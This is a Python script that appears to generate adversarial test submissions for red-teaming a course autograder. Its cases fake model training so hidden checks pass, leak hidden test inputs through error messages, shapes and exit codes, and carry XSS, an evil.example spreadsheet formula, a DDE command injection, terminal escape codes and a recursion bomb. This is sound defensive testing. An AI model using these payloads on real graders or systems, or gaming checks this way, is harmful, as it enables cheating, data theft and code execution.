"""Round 2 hostile submissions (on the fixed main), built like gen.py's under attacks/build/<case>/.

    .venv/bin/python attacks/gen2.py            # every case
    .venv/bin/python attacks/gen2.py CASE ...

Each case: attacks/build/<case>/subs/ (the attack beside reference.ipynb and blank.ipynb, unless
the case says otherwise) and case.json (assignment, honest part of each file). Some cases also
write attacks/build/<case>/roster.csv (graded with ROSTER=).
"""
from __future__ import annotations

import base64
import io
import json
import shutil
import sys
from pathlib import Path

import numpy as np

sys.path.insert(0, str(Path(__file__).resolve().parent))
from gen import BUILD, ROOT, _reference_namespace, case, nb_zip, sample, with_cells  # noqa: E402


def _b64_params(params):
    blob = io.BytesIO()
    np.savez(blob, **params)
    return base64.b64encode(blob.getvalue()).decode()


# ------------------------------------------------------------------ the disguise, undone

UNDISGUISE_MLP = '''
import base64, io
import numpy as np
_PRETRAINED = "{b64}"   # weights trained offline on the plain digits (any trainer)

def _undisguise(x, y):
    """Which public pixel each disguised column is, and which new label each digit got:
    the hidden check trains on the public x_train, only with columns and labels permuted."""
    with np.load("digits.npz") as d:
        x0, y0 = d["x_train"] / 16.0, d["y_train"]
    if x.shape != x0.shape:
        return None
    order, used = [], set()
    for j in range(x.shape[1]):
        i = next((i for i in range(x0.shape[1]) if i not in used and np.array_equal(x[:, j], x0[:, i])), None)
        if i is None:
            return None
        order.append(i); used.add(i)
    rename = np.zeros(10, int)
    rename[y0] = y
    return np.array(order), rename

def train(x, y, layer_sizes, lr, epochs, batch_size, seed, hidden="relu"):
    x, y = np.asarray(x, float), np.asarray(y)
    rng = np.random.default_rng(seed)
    found = _undisguise(x, y) if list(layer_sizes) == [64, 128, 10] else None
    if found is not None:
        order, rename = found
        with np.load(io.BytesIO(base64.b64decode(_PRETRAINED))) as z:
            P = {{k: z[k] for k in z.files}}
        W2, b2 = np.empty_like(P["W2"]), np.empty_like(P["b2"])
        W2[:, rename], b2[rename] = P["W2"], P["b2"]
        params = {{"W1": P["W1"][order], "b1": P["b1"], "W2": W2, "b2": b2}}
    else:   # no training code at all
        params = {{}}
        for l in range(1, len(layer_sizes)):
            params[f"W{{l}}"] = rng.normal(size=(layer_sizes[l - 1], layer_sizes[l])) * np.sqrt(2 / layer_sizes[l - 1])
            params[f"b{{l}}"] = np.zeros(layer_sizes[l])
    return params, {{"loss": [0.5] * epochs}}
'''


def undisguise_train():
    """hw3: train() does no training. It recognises the hidden check's disguised data as the
    public x_train with permuted columns and renamed labels (exact column matching, ~15 lines),
    and returns weights trained offline, permuted to match."""
    ns = _reference_namespace("hw3_sgd")
    data = np.load(ROOT / "assignments" / "hw3_sgd" / "digits.npz")
    params, _ = ns["train"](data["x_train"] / 16.0, data["y_train"], [64, 128, 10], 0.5, 40, 32, 1)
    nb = with_cells(sample("hw3_sgd", "blank"), UNDISGUISE_MLP.format(b64=_b64_params(params)))
    case("undisguise_train", "hw3_sgd", {"undisguise_train.ipynb": nb}, {"undisguise_train.ipynb": "blank"})


UNDISGUISE_CNN = '''
import base64, io
import numpy as np
_PRETRAINED = "{b64}"   # filters and weights trained offline on the plain digits

def _moved(a, turn):
    a = np.rot90(np.asarray(a), k=turn % 4, axes=(-2, -1))
    return np.ascontiguousarray(a[..., ::-1] if turn >= 4 else a)

def train_cnn(x, y, filters, lr, epochs, batch_size, seed):
    x, y = np.asarray(x, float), np.asarray(y)
    with np.load("digits.npz") as d:
        x0 = np.concatenate([d["x_train"], d["x_val"]]).reshape(-1, 1, 8, 8) / 16.0
        y0 = np.concatenate([d["y_train"], d["y_val"]])
    turn = next(t for t in range(8) if x.shape == x0.shape and np.array_equal(_moved(x0, t), x))
    rename = np.zeros(10, int)
    rename[y0] = y
    with np.load(io.BytesIO(base64.b64decode(_PRETRAINED))) as z:
        P = {{k: z[k] for k in z.files}}
    idx = _moved(np.arange(P["W2"].shape[0]).reshape(1, filters, 4, 4), turn).ravel()
    W2, b2 = np.empty_like(P["W2"]), np.empty_like(P["b2"])
    W2[:, rename], b2[rename] = P["W2"][idx], P["b2"]
    return {{"W1": _moved(P["W1"], turn), "b1": P["b1"], "W2": W2, "b2": b2}}, {{"loss": [0.5] * epochs}}
'''


def undisguise_cnn():
    """hw4: train_cnn does no training: it finds which of the 8 turns/mirrors of the public
    images the hidden check's images are, and the label renaming, and returns filters and
    weights trained offline, turned and permuted to match (~20 lines)."""
    ns = _reference_namespace("hw4_cnn")
    data = np.load(ROOT / "assignments" / "hw4_cnn" / "digits.npz")
    x = np.concatenate([data["x_train"], data["x_val"]]).reshape(-1, 1, 8, 8) / 16.0
    y = np.concatenate([data["y_train"], data["y_val"]])
    params, _ = ns["train_cnn"](x, y, 16, 0.5, 20, 32, 7)
    nb = with_cells(sample("hw4_cnn", "blank"), UNDISGUISE_CNN.format(b64=_b64_params(params)))
    case("undisguise_cnn", "hw4_cnn", {"undisguise_cnn.ipynb": nb}, {"undisguise_cnn.ipynb": "blank"})


# ------------------------------------------------------------------ channels out of hidden checks

LEAK_DTYPE = '''
import numpy as np
def _leak(*args, **kwargs):
    """No exception, no warning: the result's dtype is a record whose field name is the inputs;
    a hidden check prints 'expected numbers, got an array of dtype [(...)]'."""
    parts = []
    for a in list(args) + list(kwargs.values()):
        if isinstance(a, np.ndarray):
            parts.append("shape=%s values=%s" % (a.shape, " ".join(repr(float(v)) for v in a.ravel()[:8])))
        elif isinstance(a, dict):
            parts.append("dict " + " ".join("%s=%s" % (k, repr(float(np.ravel(v)[0]))) for k, v in a.items()))
    return np.zeros(1, dtype=[("LEAKED " + " | ".join(parts), "f8")])
sigmoid = relu = tanh = dense_forward = mse_loss = binary_cross_entropy = softmax = softmax_cross_entropy = _leak
def forward_pass(x, params, hidden="sigmoid", output="identity"):
    return _leak(x, params)
'''


def leak_dtype():
    case("leak_dtype", "hw1_forward", {"leak_dtype.ipynb": with_cells(sample("hw1_forward", "blank"), LEAK_DTYPE)},
         {"leak_dtype.ipynb": "blank"})


LEAK_SHAPE = '''
import numpy as np
def _leak(*args, **kwargs):
    """The first input's first number, its 64 bits as the sizes of an empty array:
    a hidden check prints 'wrong shape: got (0, HIGH, LOW)'."""
    first = next(a for a in list(args) + list(kwargs.values()) if isinstance(a, np.ndarray))
    bits = int(np.float64(first.ravel()[0]).view(np.uint64))
    return np.zeros((0, bits >> 32, bits & 0xFFFFFFFF), np.int8)
sigmoid = relu = tanh = dense_forward = mse_loss = binary_cross_entropy = softmax = softmax_cross_entropy = forward_pass = _leak
'''


def leak_shape():
    case("leak_shape", "hw1_forward", {"leak_shape.ipynb": with_cells(sample("hw1_forward", "blank"), LEAK_SHAPE)},
         {"leak_shape.ipynb": "blank"})


LEAK_WARNING = '''
import warnings
import numpy as np
_CODE = str.maketrans("0123456789.-e+", "abcdefghijklmn")
def _leak(*args, **kwargs):
    """A warning worded like numpy's (the only texts a hidden check shows): its 'ufunc name' is
    the first inputs, digits spelt as letters (a=0 ... j=9, k=., l=-, m=e)."""
    first = next(a for a in list(args) + list(kwargs.values()) if isinstance(a, np.ndarray))
    words = " ".join(repr(float(v)).translate(_CODE) for v in first.ravel()[:3])[:40]
    warnings.warn("overflow encountered in " + words, RuntimeWarning)
    return np.zeros(np.shape(first))
sigmoid = softmax = softmax_cross_entropy = _leak
'''


def leak_warning():
    case("leak_warning", "hw1_forward", {"leak_warning.ipynb": with_cells(sample("hw1_forward", "blank"), LEAK_WARNING)},
         {"leak_warning.ipynb": "blank"})


LEAK_KEYS = '''
import numpy as np
def sgd_step(params, grads, lr):
    """The hidden check test_sgd_step_every_key prints the keys it got: here, the inputs."""
    return {"LEAKED " + k + "=" + " ".join(repr(float(v)) for v in np.ravel(params[k])[:6]): 0.0 for k in params}
'''


def leak_dictkeys():
    case("leak_dictkeys", "hw3_sgd", {"leak_dictkeys.ipynb": with_cells(sample("hw3_sgd", "blank"), LEAK_KEYS)},
         {"leak_dictkeys.ipynb": "blank"})


# ------------------------------------------------------------------ names: HTML, terminal, spreadsheets

XSS = "<img src=x onerror=\"window.__pwned=(window.__pwned||'')+'N'\">"
FORMULA = '=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example/?"&A1,"grade details")'

MSG_CELL = r'''
import numpy as np
_MSG = "<script>window.__pwned='M'</script><img src=x onerror=window.__pwned='M2'>"
def sigmoid(z):
    raise ValueError(_MSG)
def relu(z):
    import warnings
    warnings.warn(_MSG)
    return np.maximum(z, 0)
raise RuntimeError(_MSG)
'''


def names_injection():
    """Row names, messages and a Gradescope export's submitter names carrying HTML/JS and
    spreadsheet formulas: report.html in a browser, grades.csv and the gradebooks.
    Layout: a Gradescope export (submission_metadata.yml at the top) whose submitters' names
    (students choose their own name on Gradescope) are payloads."""
    top = BUILD / "names_injection"
    shutil.rmtree(top, ignore_errors=True)
    subs = top / "subs"
    meta = {}
    people = {
        "submission_1": ("reference", "Ada Honest", "s1", "ada@uni.example"),
        "submission_2": ("blank", "Bob Blank", "s2", "bob@uni.example"),
        "submission_3": ("attack", XSS, "s3", "mallory@uni.example"),
        "submission_4": ("attack", FORMULA, "s4", "eve@uni.example"),
    }
    for folder, (kind, name, sid, email) in people.items():
        (subs / folder).mkdir(parents=True)
        nb = sample("hw1_forward", "blank" if kind == "attack" else kind)
        if kind == "attack":
            nb = with_cells(nb, MSG_CELL)
        (subs / folder / "hw1_forward.ipynb").write_text(json.dumps(nb))
        meta[folder] = {":submitters": [{":name": name, ":sid": sid, ":email": email}]}
    import yaml
    (subs / "submission_metadata.yml").write_text(yaml.safe_dump(meta))
    (top / "case.json").write_text(json.dumps({"assignment": "hw1_forward", "honest": {
        "submission_1": "reference", "submission_2": "blank", "submission_3": "blank", "submission_4": "blank"},
        "note": "Gradescope export; submitters' names are HTML and a formula"}, indent=1))
    # a roster whose names (copied from the LMS, where students set them) are payloads too
    (top / "roster.csv").write_text(
        "student id,name,email\n"
        f's1,Ada Honest,ada@uni.example\ns2,Bob Blank,bob@uni.example\ns3,"{XSS.replace(chr(34), chr(34) * 2)}",mallory@uni.example\n'
        f's4,"{FORMULA.replace(chr(34), chr(34) * 2)}",eve@uni.example\n'
        f's5,"@SUM(1+1)*cmd|\' /C calc\'!A0",carol@uni.example\n'
        's6,"Dan\x1b[1A\x1b[2K\r  hw1_forward: all students submitted\x1b[8m",dan@uni.example\n')


def names_flat():
    """A flat folder (files collected as students named them): file names that are HTML and a
    formula (no '/' in a file name: CHAR(47) stands for it)."""
    nb = with_cells(sample("hw1_forward", "blank"), MSG_CELL)
    case("names_flat", "hw1_forward",
         {XSS + ".ipynb": nb, FORMULA + ".ipynb": sample("hw1_forward", "blank"),
          "<svg onload=window.__pwned='S'>": b"not a notebook"},
         {XSS + ".ipynb": "blank", FORMULA + ".ipynb": "blank", "<svg onload=window.__pwned='S'>": "blank"})


# ------------------------------------------------------------------ discovery

def lone_student_meta():
    """The instructor grades a folder that holds one student's folder (a late submission, as a
    Moodle or Canvas download unpacks). That folder is taken for the class ("a zip of one top
    folder"); the student put a submission_metadata.yml in it: it is read as a Gradescope
    export, with submitters the student made up (other students' ids and names)."""
    top = BUILD / "lone_student_meta"
    shutil.rmtree(top, ignore_errors=True)
    mal = top / "subs" / "mallory"
    for folder, kind in (("submission_1", "blank"), ("submission_2", "blank"), ("submission_3", "blank")):
        (mal / folder).mkdir(parents=True)
        (mal / folder / "hw1_forward.ipynb").write_text(json.dumps(sample("hw1_forward", kind)))
    import yaml
    (mal / "submission_metadata.yml").write_text(yaml.safe_dump({
        "submission_1": {":submitters": [{":name": "Ada Honest", ":sid": "s1", ":email": "ada@uni.example"}]},
        "submission_2": {":submitters": [{":name": "Bob Blank", ":sid": "s2", ":email": "bob@uni.example"}]},
        "submission_3": {":submitters": [{":name": "Mallory", ":sid": "s3", ":email": "mallory@uni.example"}]},
    }))
    (top / "roster.csv").write_text("student id,name,email\ns1,Ada Honest,ada@uni.example\n"
                                    "s2,Bob Blank,bob@uni.example\ns3,Mallory,mallory@uni.example\n")
    (top / "case.json").write_text(json.dumps({"assignment": "hw1_forward", "honest": {},
        "note": "one student's folder only: expected one row per file of mallory/, all mallory's; "
                "ada and bob missing (no submission)"}, indent=1))


HALF_FORWARD = '''
_reference_forward_pass = forward_pass
def forward_pass(x, params, hidden="sigmoid", output="identity"):
    """A common honest mistake: the cache is not returned (only y_hat)."""
    return _reference_forward_pass(x, params, hidden, output)[0]
'''


def forgot_cache():
    """Not an attack: the reference notebook whose forward_pass returns y_hat alone (the cache
    forgotten). The test's `y_hat, cache = call_unchanged(...)` then raises ValueError, which the
    grader reports as "this check could not run ... a problem in the autograder, not in your
    code" and, to the instructor, as a TEST ERROR to fix. (A student can do it on purpose too.)"""
    case("forgot_cache", "hw1_forward",
         {"forgot_cache.ipynb": with_cells(sample("hw1_forward", "reference"), HALF_FORWARD)},
         {"forgot_cache.ipynb": "reference"})


def name_collision():
    """A folder per student; mallory's folder holds three files whose printed names collide
    after escaping and numbering: 'a<ESC>.ipynb' prints as 'a\\x1b.ipynb', like a file named so
    literally, which unique_names renames to 'a\\x1b.ipynb (2)', the name of the third file.
    Two rows with one name: results are keyed by name, so one file's grade stands for both."""
    top = BUILD / "name_collision"
    shutil.rmtree(top, ignore_errors=True)
    subs = top / "subs"
    for who, kind in (("alice", "reference"), ("bob", "blank")):
        (subs / who).mkdir(parents=True)
        (subs / who / "hw1_forward.ipynb").write_text(json.dumps(sample("hw1_forward", kind)))
    (subs / "mallory").mkdir()
    (subs / "mallory" / "a\x1b.ipynb").write_text(json.dumps(sample("hw1_forward", "blank")))       # a real ESC
    (subs / "mallory" / "a\\x1b.ipynb (2)").write_text(json.dumps(sample("hw1_forward", "blank")))  # a backslash
    (subs / "mallory" / "a\\x1b.ipynb").write_text(json.dumps(sample("hw1_forward", "reference")))
    (top / "case.json").write_text(json.dumps({"assignment": "hw1_forward", "honest": {
        "alice/hw1_forward.ipynb": "reference", "bob/hw1_forward.ipynb": "blank"},
        "note": "mallory's 3 files: 2 blank, 1 reference; expected 3 distinct rows"}, indent=1))


DEEP_REPLY = '''
import os, struct, sys
# the reply to this cell, written by the cell itself on the worker's pipe: a JSON header nested
# 100,000 deep (200 kB, under the 1 MB header limit); the grader's json.loads raises RecursionError
_h = b"[" * 100_000 + b"]" * 100_000
_frame = memoryview(struct.pack(">II", len(_h), 0) + _h)
while _frame:
    _frame = _frame[os.write(int(sys.argv[2]), _frame):]
os._exit(0)
'''


def deep_reply():
    """A cell answers its own exec request with a deeply nested JSON header: RecursionError in
    the grading process (sandbox._receive catches ValueError and UnicodeDecodeError only), which
    no one treats as the student's doing: a machinery fault, "not graded", exit 3 / no results.json."""
    case("deep_reply", "hw1_forward", {"deep_reply.ipynb": with_cells(sample("hw1_forward", "blank"), DEEP_REPLY)},
         {"deep_reply.ipynb": "blank"})


def lone_student_zip():
    """lone_student_meta as a class zip (late.zip: late/mallory/...): the same reading."""
    lone_student_meta()
    src, top = BUILD / "lone_student_meta", BUILD / "lone_student_zip"
    shutil.rmtree(top, ignore_errors=True)
    (top / "subs").mkdir(parents=True)
    members = {f"late/{p.relative_to(src / 'subs').as_posix()}": p.read_bytes()
               for p in sorted((src / "subs").rglob("*")) if p.is_file()}
    (top / "subs" / "late.zip").write_bytes(nb_zip(members))
    shutil.copy(src / "roster.csv", top / "roster.csv")
    shutil.copy(src / "case.json", top / "case.json")


FAKE_NORMS = '''
import numpy as np
def layer_gradient_norms(num_layers, width, hidden, seed):
    """No network, no gradients: the curve the check expects, made up."""
    return np.geomspace(1e-4, 1.0, num_layers) if hidden == "sigmoid" else np.ones(num_layers)
'''


def fake_norms():
    """hw2: test_layer_gradient_norms_shape_of_the_curve (hidden, 1 point) judges the norms that
    the student's function reports about its own gradients: a made-up curve passes."""
    case("fake_norms", "hw2_backprop", {"fake_norms.ipynb": with_cells(sample("hw2_backprop", "blank"), FAKE_NORMS)},
         {"fake_norms.ipynb": "blank"})


PASTED_TABLE = '''
import base64, io, json
_TABLE = json.loads(base64.b64decode("{table}"))   # (sizes, hidden, seed) -> weights trained offline
_train_undisguised = train
def train(x, y, layer_sizes, lr, epochs, batch_size, seed, hidden="relu"):
    key = repr((list(layer_sizes), hidden, seed))
    if key in _TABLE:   # the hidden checks on plain public digits (test_train_history, test_train_reproducible)
        return {{k: np.array(v) for k, v in _TABLE[key].items()}}, {{"loss": [0.5] * epochs}}
    return _train_undisguised(x, y, layer_sizes, lr, epochs, batch_size, seed, hidden)
'''


def pasted_all():
    """hw3: undisguise_train, plus a table of weights trained offline for the other hidden
    training checks, which train on plain public digits (x_train[300:700], x_train[700:900]):
    every hidden check of `train` passes with no training code."""
    undisguise_train()
    ns = _reference_namespace("hw3_sgd")
    data = np.load(ROOT / "assignments" / "hw3_sgd" / "digits.npz")
    xs, ys = data["x_train"] / 16.0, data["y_train"]
    table = {}
    for hidden in ("tanh", "sigmoid"):
        p, _ = ns["train"](xs[300:700], ys[300:700], [64, 24, 16, 10], 0.3, 8, 50, 3, hidden=hidden)
        table[repr(([64, 24, 16, 10], hidden, 3))] = {k: v.tolist() for k, v in p.items()}
    for seed in (11, 12):
        p, _ = ns["train"](xs[700:900], ys[700:900], [64, 16, 10], 0.5, 3, 20, seed)
        table[repr(([64, 16, 10], "relu", seed))] = {k: v.tolist() for k, v in p.items()}
    nb = json.loads((BUILD / "undisguise_train" / "subs" / "undisguise_train.ipynb").read_text())
    blob = base64.b64encode(json.dumps(table).encode()).decode()
    nb = with_cells(nb, PASTED_TABLE.format(table=blob))
    case("pasted_all", "hw3_sgd", {"pasted_all.ipynb": nb}, {"pasted_all.ipynb": "blank"})


LEAK_EXIT = '''
import os
import numpy as np
def _leak(*args, **kwargs):
    """8 bits per hidden check: the process's exit code ('exited during ... (exit code N)')."""
    first = next(a for a in list(args) + list(kwargs.values()) if isinstance(a, np.ndarray))
    os._exit(int(np.float64(first.ravel()[0]).view(np.uint64)) >> 56)
sigmoid = relu = tanh = dense_forward = mse_loss = binary_cross_entropy = softmax = softmax_cross_entropy = forward_pass = _leak
'''


def leak_exitcode():
    case("leak_exitcode", "hw1_forward", {"leak_exitcode.ipynb": with_cells(sample("hw1_forward", "blank"), LEAK_EXIT)},
         {"leak_exitcode.ipynb": "blank"})


CASES = {f.__name__: f for f in (undisguise_train, undisguise_cnn, leak_dtype, leak_shape, leak_warning,
                                  leak_dictkeys, names_injection, names_flat, lone_student_meta, forgot_cache, name_collision, deep_reply, lone_student_zip, fake_norms, pasted_all, leak_exitcode)}

if __name__ == "__main__":
    for name in sys.argv[1:] or CASES:
        CASES[name]()
        print("built", name)
